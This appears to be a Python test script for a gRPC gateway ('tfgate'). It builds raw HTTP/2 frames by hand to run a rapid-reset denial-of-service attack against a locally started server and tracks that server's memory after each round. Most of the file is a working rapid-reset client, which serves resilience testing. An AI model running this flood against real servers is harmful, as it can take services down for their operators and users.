"""An HTTP/2 rapid reset from raw frames: HEADERS then RST_STREAM(CANCEL), again and again, on one
connection, with the server's resident memory read after each round.

The frames are built by hand (RFC 9113 framing, RFC 7541 literal header fields without
indexing and without Huffman coding), so the client needs no HTTP/2 library and behaves as an
attacker would: it answers SETTINGS and PING, as a client must to keep the connection, and never
waits for an answer to its requests.

``python -m tests.rapid_reset --rounds 30`` runs it against a ``tfgate serve`` process in front
of the fake TF Serving and prints the server's RSS after every round.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
from pathlib import Path

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0, 1, 3, 4, 6, 7
_ACK, _END_HEADERS = 0x1, 0x4
_CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)
    return head + payload


def literal(name: str, value: str) -> bytes:
    """A header field as an HPACK literal without indexing, new name, no Huffman coding."""
    raw_name, raw_value = name.encode(), value.encode()
    assert len(raw_name) < 127 and len(raw_value) < 127  # one-byte lengths
    return b"\x00" + bytes([len(raw_name)]) + raw_name + bytes([len(raw_value)]) + raw_value


def request_headers(path: str) -> bytes:
    """The header block of a gRPC call to ``path``."""
    return b"".join(
        literal(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "127.0.0.1"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        )
    )


def rss_mib(pid: int) -> float:
    """The resident set size of process ``pid`` in MiB (Linux, /proc)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise LookupError(f"no VmRSS for process {pid}")


async def _answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Reads the server's frames; acknowledges SETTINGS and PING, as a client must."""
    with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
        while True:
            head = await reader.readexactly(9)
            body = await reader.readexactly(int.from_bytes(head[:3], "big"))
            kind, flags = head[3], head[4]
            if kind == _SETTINGS and not flags & _ACK:
                writer.write(frame(_SETTINGS, _ACK, 0))
            elif kind == _PING and not flags & _ACK:
                writer.write(frame(_PING, _ACK, 0, body))
            elif kind == _GOAWAY:
                return


async def rapid_reset(
    port: int,
    pid: int,
    rounds: int,
    per_round: int,
    *,
    path: str = "/tfgate.v1.InferenceService/Predict",
    settle: float = 0.5,
) -> list[float]:
    """Sends ``rounds`` rounds of ``per_round`` HEADERS+RST_STREAM pairs on one connection to
    127.0.0.1:``port`` and returns process ``pid``'s RSS (MiB) ``settle`` seconds after each.

    Raises ConnectionError if the server closes the connection before the rounds are done.
    """
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    answering = asyncio.create_task(_answer(reader, writer))
    block = request_headers(path)
    reset = struct.pack(">I", _CANCEL)
    sizes: list[float] = []
    try:
        writer.write(_PREFACE + frame(_SETTINGS, 0, 0))
        await writer.drain()
        stream = 1
        for _ in range(rounds):
            batch = bytearray()
            for _ in range(per_round):
                batch += frame(_HEADERS, _END_HEADERS, stream, block)
                batch += frame(_RST_STREAM, 0, stream, reset)
                stream += 2
                if len(batch) > 1 << 16:
                    writer.write(bytes(batch))
                    batch.clear()
                    await writer.drain()
            writer.write(bytes(batch))
            await writer.drain()
            await asyncio.sleep(settle)
            if answering.done():
                raise ConnectionError(f"the server closed the connection after {len(sizes)} rounds")
            sizes.append(rss_mib(pid))
    finally:
        answering.cancel()
        writer.close()
        with contextlib.suppress(asyncio.CancelledError, ConnectionError):
            await answering
            await writer.wait_closed()
    return sizes


async def _probe(rounds: int, per_round: int) -> None:
    import tempfile

    from tests.fake_tfserving import FakeTFServing
    from tests.test_lifecycle import end, start_tfgate

    fake = FakeTFServing()
    await fake.start()
    log = Path(tempfile.mkdtemp(prefix="rapid-reset-")) / "tfgate.log"
    proc, port = start_tfgate(fake.target, log, "--log-level", "WARNING")
    try:
        await asyncio.sleep(1.0)
        print(f"before: {rss_mib(proc.pid):.1f} MiB", flush=True)
        sizes = await rapid_reset(port, proc.pid, rounds, per_round)
        for number, size in enumerate(sizes, 1):
            print(f"round {number}: {size:.1f} MiB", flush=True)
        await asyncio.sleep(2.0)
        print(f"2 s later: {rss_mib(proc.pid):.1f} MiB (tfgate's log: {log})", flush=True)
    finally:
        end(proc)
        await fake.stop()


def main() -> None:
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--rounds", type=int, default=30, help="rounds of resets (default 30)")
    parser.add_argument("--per-round", type=int, default=20_000, help="resets a round (20,000)")
    args = parser.parse_args()
    asyncio.run(_probe(args.rounds, args.per_round))


if __name__ == "__main__":
    main()
